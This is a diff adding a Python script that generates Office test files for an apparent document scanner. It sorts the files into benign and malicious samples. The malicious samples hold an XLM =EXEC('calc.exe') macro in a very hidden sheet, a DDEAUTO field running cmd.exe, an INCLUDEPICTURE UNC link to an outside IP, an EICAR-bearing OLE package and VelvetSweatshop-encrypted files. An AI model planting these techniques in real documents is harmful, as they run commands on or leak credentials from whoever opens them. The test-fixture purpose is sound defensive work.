@@ -1,0 +1,270 @@
+#!/usr/bin/python3
+"""Writes Office compound files (OLE2/CFB) for analyze-office.sh into a directory.
+
+Encrypted files are encrypted the way [MS-OFFCRYPTO] lays out, with keys made by
+msoffcrypto-tool's own key derivation where it exposes one, and each is checked with
+msoffcrypto-tool (decrypted, or its password verified): airlock's reading of them is then
+checked against a third-party implementation, not against this script.
+
+Usage: analyze-office.py DIR [DOCX]   (DOCX: a real package to encrypt, e.g. from soffice)
+(real benign documents, e.g. soffice's .doc of the same text, are added by the caller)
+"""
+import base64
+import hashlib
+import io
+import os
+import struct
+import sys
+import zipfile
+
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+from msoffcrypto.format.ooxml import OOXMLFile
+from msoffcrypto.method import rc4_cryptoapi
+from msoffcrypto.method.rc4_cryptoapi import DocumentRC4CryptoAPI
+
+SECT = 512
+MINI = 64
+CUTOFF = 4096
+END, FREE, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
+
+
+def cfb(streams):
+    """A version 3 compound file holding streams [(name, bytes)] at the root."""
+    big = [(n, d) for n, d in streams if len(d) >= CUTOFF]
+    small = [(n, d) for n, d in streams if len(d) < CUTOFF]
+    mini = b""
+    minifat = []
+    starts = {}
+    for n, d in small:
+        k = (len(d) + MINI - 1) // MINI or 1
+        first = len(minifat)
+        starts[n] = first
+        minifat += [first + i + 1 for i in range(k - 1)] + [END]
+        mini += d.ljust(k * MINI, b"\0")
+    sectors = []  # payload sectors, in order
+    fat = []
+
+    def chain(data):
+        k = (len(data) + SECT - 1) // SECT
+        first = len(sectors)
+        for i in range(k):
+            sectors.append(data[i * SECT:(i + 1) * SECT].ljust(SECT, b"\0"))
+            fat.append(first + i + 1 if i < k - 1 else END)
+        return first if k else END
+
+    for n, d in big:
+        starts[n] = chain(d)
+    mini_start = chain(mini) if mini else END
+    minifat_raw = b"".join(struct.pack("<I", x) for x in minifat)
+    minifat_start = chain(minifat_raw) if minifat else END
+
+    def entry(name, typ, child, right, start, size):
+        u = (name + "\0").encode("utf-16-le")
+        return (u.ljust(64, b"\0") + struct.pack("<HBB", len(u), typ, 1) +
+                struct.pack("<III", FREE, right, child) + b"\0" * 16 + b"\0" * 4 +
+                b"\0" * 16 + struct.pack("<IQ", start, size))
+
+    dirs = [entry("Root Entry", 5, 1 if streams else FREE, FREE, mini_start, len(mini))]
+    for i, (n, d) in enumerate(streams):
+        right = i + 2 if i + 1 < len(streams) else FREE
+        dirs.append(entry(n, 2, FREE, right, starts[n], len(d)))
+    while len(dirs) % 4:
+        dirs.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREE, FREE, FREE) +
+                    b"\0" * 36 + struct.pack("<IQ", 0, 0))
+    dir_start = chain(b"".join(dirs))
+    n_fat = 1
+    while (len(sectors) + n_fat) > n_fat * (SECT // 4):
+        n_fat += 1
+    fat_ids = list(range(len(sectors), len(sectors) + n_fat))
+    fat += [FATSECT] * n_fat
+    fat += [FREE] * (n_fat * (SECT // 4) - len(fat))
+    fat_raw = b"".join(struct.pack("<I", x) for x in fat)
+    hdr = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 +
+           struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
+           struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, CUTOFF, minifat_start,
+                       len(minifat_raw) // SECT + (1 if len(minifat_raw) % SECT else 0) if minifat else 0,
+                       END, 0))
+    difat = fat_ids + [FREE] * (109 - len(fat_ids))
+    hdr += b"".join(struct.pack("<I", x) for x in difat)
+    assert len(hdr) == 512
+    return hdr + b"".join(sectors) + fat_raw
+
+
+def aes_cbc(key, iv, data, decrypt=False):
+    c = Cipher(algorithms.AES(key), modes.CBC(iv))
+    x = c.decryptor() if decrypt else c.encryptor()
+    return x.update(data) + x.finalize()
+
+
+def agile(package, password):
+    """An OOXML package encrypted with agile encryption (SHA-512, AES-256)."""
+    H = hashlib.sha512
+    key_salt, pw_salt, secret, vin = (os.urandom(16) for _ in range(4))
+    secret = os.urandom(32)
+    spin = 100000
+    h = H(pw_salt + password.encode("utf-16-le")).digest()
+    for i in range(spin):
+        h = H(struct.pack("<I", i) + h).digest()
+
+    def k(block):
+        return H(h + block).digest()[:32]
+
+    enc_vin = aes_cbc(k(b"\xfe\xa7\xd2\x76\x3b\x4b\x9e\x79"), pw_salt, vin)
+    enc_vhash = aes_cbc(k(b"\xd7\xaa\x0f\x6d\x30\x61\x34\x4e"), pw_salt, H(vin).digest())
+    enc_key = aes_cbc(k(b"\x14\x6e\x0b\xe7\xab\xac\xd0\xd6"), pw_salt, secret)
+    out = struct.pack("<Q", len(package))
+    for i in range(0, len(package), 4096):
+        seg = package[i:i + 4096]
+        seg += b"\0" * (-len(seg) % 16)
+        iv = H(key_salt + struct.pack("<I", i // 4096)).digest()[:16]
+        out += aes_cbc(secret, iv, seg)
+    b64 = lambda b: base64.b64encode(b).decode()
+    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
+           '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
+           'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
+           '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
+           'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
+           'saltValue="%s"/>'
+           '<dataIntegrity encryptedHmacKey="%s" encryptedHmacValue="%s"/>'
+           '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
+           '<p:encryptedKey spinCount="%d" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
+           'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
+           'saltValue="%s" encryptedVerifierHashInput="%s" encryptedVerifierHashValue="%s" '
+           'encryptedKeyValue="%s"/></keyEncryptor></keyEncryptors></encryption>' %
+           (b64(key_salt), b64(os.urandom(64)), b64(os.urandom(64)), spin, b64(pw_salt),
+            b64(enc_vin), b64(enc_vhash), b64(enc_key)))
+    info = struct.pack("<HHI", 4, 4, 0x40) + xml.encode()
+    f = cfb([("EncryptionInfo", info), ("EncryptedPackage", out)])
+    # the third-party check: msoffcrypto-tool opens it with the password, and only with it
+    o = OOXMLFile(io.BytesIO(f))
+    o.load_key(password=password, verify_password=True)
+    dec = io.BytesIO()
+    o.decrypt(dec)
+    assert dec.getvalue()[:len(package)] == package, "msoffcrypto-tool does not decrypt it"
+    return f
+
+
+def rc4(key, data):
+    s = list(range(256))
+    j = 0
+    for i in range(256):
+        j = (j + s[i] + key[i % len(key)]) & 255
+        s[i], s[j] = s[j], s[i]
+    i = j = 0
+    out = bytearray()
+    for c in data:
+        i = (i + 1) & 255
+        j = (j + s[i]) & 255
+        s[i], s[j] = s[j], s[i]
+        out.append(c ^ s[(s[i] + s[j]) & 255])
+    return bytes(out)
+
+
+def rc4_cryptoapi_header(password):
+    """EncryptionVersionInfo 4.2 onwards of an RC4 CryptoAPI header (128-bit key)."""
+    salt, verifier = os.urandom(16), os.urandom(16)
+    key = rc4_cryptoapi._makekey(password, salt, 128, 0)
+    enc = rc4(key, verifier + hashlib.sha1(verifier).digest())
+    assert DocumentRC4CryptoAPI.verifypw(password, salt, 128, enc[:16], enc[16:]), \
+        "msoffcrypto-tool does not verify the header"
+    csp = "Microsoft Enhanced Cryptographic Provider v1.0\0".encode("utf-16-le")
+    header = struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 128, 1, 0, 0) + csp
+    return (struct.pack("<HHII", 4, 2, 4, len(header)) + header + struct.pack("<I", 16) + salt +
+            enc[:16] + struct.pack("<I", 20) + enc[16:])
+
+
+def rec(t, data):
+    return struct.pack("<HH", t, len(data)) + data
+
+
+def bof(dt):
+    return rec(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0206))
+
+
+def workbook(sheets, filepass=None):
+    """A BIFF8 workbook stream: sheets [(name, hidden state, type, [formula records])]."""
+    glob = bof(0x0005)
+    if filepass:
+        glob += rec(0x002F, struct.pack("<H", 1) + filepass)
+    bounds = []
+    for name, state, dt, _ in sheets:
+        bounds.append(bytearray(struct.pack("<IBBBB", 0, state, dt, len(name), 0) + name.encode()))
+    size = len(glob) + sum(4 + len(b) for b in bounds) + 4
+    out_sheets = b""
+    for b, (name, state, dt, formulas) in zip(bounds, sheets):
+        s = bof(0x0040 if dt == 1 else 0x0010) + b"".join(formulas) + rec(0x000A, b"")
+        struct.pack_into("<I", b, 0, size + len(out_sheets))
+        out_sheets += s
+    return glob + b"".join(rec(0x0085, b) for b in bounds) + rec(0x000A, b"") + out_sheets
+
+
+def formula(rgce):
+    return rec(0x0006, struct.pack("<HHH", 0, 0, 15) + b"\0" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
+
+
+def ptg_str(s):
+    return b"\x17" + bytes([len(s), 0]) + s.encode()
+
+
+def main():
+    out = sys.argv[1]
+    os.makedirs(out + "/malicious", exist_ok=True)
+    os.makedirs(out + "/benign", exist_ok=True)
+    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
+    if len(sys.argv) > 2:
+        pkg = open(sys.argv[2], "rb").read()
+        zipfile.ZipFile(io.BytesIO(pkg)).testzip()
+        w("malicious/velvet-agile.docx", agile(pkg, "VelvetSweatshop"))
+        w("malicious/password-agile.docx", agile(pkg, "correct horse 7"))
+    w("malicious/velvet-rc4capi.xls",
+      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_cryptoapi_header("VelvetSweatshop")))]))
+    w("malicious/password-rc4capi.xls",
+      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_cryptoapi_header("s3cret!")))]))
+    # =EXEC("calc.exe") in a very hidden macro sheet: ptgStr, ptgFuncVar(1 argument, EXEC)
+    exec_f = formula(ptg_str("calc.exe") + b"\x42\x01" + struct.pack("<H", 110))
+    w("malicious/xlm-exec.xls",
+      cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 2, 1, [exec_f])]))]))
+    # a visible macro sheet that only adds numbers: =SUM(1,2) (ptgInt, ptgInt, ptgFuncVar SUM)
+    sum_f = formula(b"\x1e\x01\x00\x1e\x02\x00\x42\x02" + struct.pack("<H", 4))
+    w("malicious/xlm-sheet-hidden.xls",
+      cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 1, 1, [sum_f])]))]))
+    w("benign/plain.xls", cfb([("Workbook", workbook([("Sheet1", 0, 0, [sum_f])]))]))
+    # a Word FIB (wIdent 0xA5EC) and field codes stored as UTF-16LE
+    fib = struct.pack("<HH", 0xA5EC, 0x00C1).ljust(0x200, b"\0")
+
+    def field(instr):
+        return ("\x13" + instr + "\x14result\x15").encode("utf-16-le")
+
+    dde = fib + "Dear customer, ".encode("utf-16-le") + field(
+        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + b"\0" * 64
+    w("malicious/dde-utf16.doc", cfb([("WordDocument", dde), ("1Table", b"\0" * 512)]))
+    unc = fib + field(' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\share\\\\a.png" \\d ') + b"\0" * 64
+    w("malicious/includepicture-unc.doc", cfb([("WordDocument", unc), ("1Table", b"\0" * 512)]))
+    page = fib + field(' PAGE \\* MERGEFORMAT ') + field(' HYPERLINK "https://www.debian.org/" ')
+    w("benign/fields.doc", cfb([("WordDocument", page), ("1Table", b"\0" * 512)]))
+    # fEncrypted and fWhichTblStm: the RC4 CryptoAPI header starts the 1Table stream
+    enc = bytearray(fib)
+    struct.pack_into("<H", enc, 0x0A, 0x0300)
+    for name, pw in (("velvet-rc4capi.doc", "VelvetSweatshop"), ("password-rc4capi.doc", "x")):
+        hdr = rc4_cryptoapi_header(pw)
+        w("malicious/" + name, cfb([("WordDocument", bytes(enc) + b"\0" * 4096),
+                                    ("1Table", hdr.ljust(4200, b"\0"))]))
+
+    # OLE Package objects: type 2, label, path, 2 + 2 bytes, temp path, size, the file
+    def package(label, data):
+        tmp = b"C:\\tmp\\" + label.encode() + b"\0"
+        body = (struct.pack("<H", 2) + label.encode() + b"\0" + b"C:\\x\\" + label.encode() +
+                b"\0" + struct.pack("<HH", 0, 3) + struct.pack("<I", len(tmp)) + tmp +
+                struct.pack("<I", len(data)) + data)
+        return struct.pack("<I", len(body)) + body
+
+    eicar = (b"X5O!P%@AP[4\\PZX54(P^)7CC)" + b"7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
+    w("malicious/package-eicar.doc",
+      cfb([("WordDocument", fib), ("\x01Ole10Native", package("readme.com", eicar))]))
+    w("benign/package-text.doc",
+      cfb([("WordDocument", fib), ("\x01Ole10Native",
+                                   package("notes.txt", b"Meeting at ten.\n" * 300))]))
+
+
+if __name__ == "__main__":
+    main()
